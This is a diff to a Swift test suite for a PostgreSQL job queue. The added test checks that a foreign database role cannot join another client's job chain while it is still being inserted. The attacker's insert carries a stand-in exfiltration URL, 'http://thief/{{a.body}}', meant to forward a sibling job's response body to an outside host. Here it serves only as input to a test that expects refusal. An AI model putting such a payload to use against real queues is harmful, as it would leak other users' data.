@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: Apache-2.0
 
 import PGClient
+import Synchronization
 import TestSupport
 import Testing
 
@@ -69,6 +70,29 @@ struct ClientRoleTests {
         }
         #expect(try queue.rows("select distinct state from postrider.job_status order by 1") == [["scheduled"]])
         #expect(try client.query("select postrider.cancel(1)").bool(0, 0))
+    }
+
+    @Test func `nor can it be joined while it is being inserted`() throws {
+        let queue = try TestQueue()
+        let client = try TestRole.client.connect(queue)
+        try client.execute(
+            "begin; insert into postrider.jobs (kind, run_at) values ('chain', now() + interval '1 day')")
+        let chain = try client.query("select max(id) from postrider.jobs").int64(0, 0)
+        try client.execute("insert into postrider.jobs (parent_id, name, url) values (\(chain), 'a', 'http://h/')")
+        let database = TestRole.stranger.database(queue.database)
+        let refusal = Mutex<String?>(nil)
+        let thief = BackgroundThread {
+            // Takes the position that the client's member has, and waits for its commit.
+            let sql = "insert into postrider.jobs (parent_id, url) values (\(chain), 'http://thief/{{a.body}}')"
+            guard let stranger = try? PGConnection(database) else { return }
+            let state = TestRole.refusal(of: sql, stranger)
+            refusal.withLock { $0 = state }
+        }
+        try queue.waitUntilBlocked("thief")
+        try client.execute("commit")
+        thief.join()
+        #expect(refusal.withLock { $0 } == "PR001")
+        #expect(try queue.number("select count(*) from postrider.members") == 1)
     }
 
     @Test func `the answers of another client's jobs are in no view, and in no condition`() throws {
